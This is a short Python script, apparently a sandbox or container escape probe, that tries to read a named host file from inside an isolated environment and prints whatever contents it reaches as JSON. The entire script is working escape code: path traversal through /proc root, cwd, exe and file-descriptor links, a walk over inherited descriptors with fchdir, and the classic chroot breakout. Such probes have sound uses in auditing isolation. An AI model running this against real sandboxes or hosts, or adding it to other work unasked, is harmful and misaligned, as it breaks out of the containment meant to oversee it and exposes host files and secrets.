"""Opens a file of the host in every way there is from inside, and prints those that led to it."""

import json
import os
import sys

wanted, reached = sys.argv[1], []
ways = [wanted, "/.." * 9 + wanted]
for pid in ("1", "self", "thread-self", str(os.getppid())):
    for link in ("root", "cwd", "exe"):
        ways += [f"/proc/{pid}/{link}{wanted}", f"/proc/{pid}/{link}" + "/.." * 20 + wanted]
ways += [f"/proc/{pid}/fd/{number}{wanted}" for pid in (1, "self") for number in range(64)]
ways += [f"/dev/fd/{number}" + "/.." * 20 + wanted for number in range(64)]


def try_all(what):
    for way in ways:
        try:
            with open(way) as file:
                reached.append([what, way, file.read()])
        except OSError:
            pass


try_all("plain")
for number in range(3, 256):
    try:
        os.fchdir(number)
        try_all(f"descriptor {number}")
    except OSError:
        pass
try:
    os.mkdir("/tmp/jail")
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    try_all("out of a chroot")
except OSError:
    pass
print(json.dumps(reached))
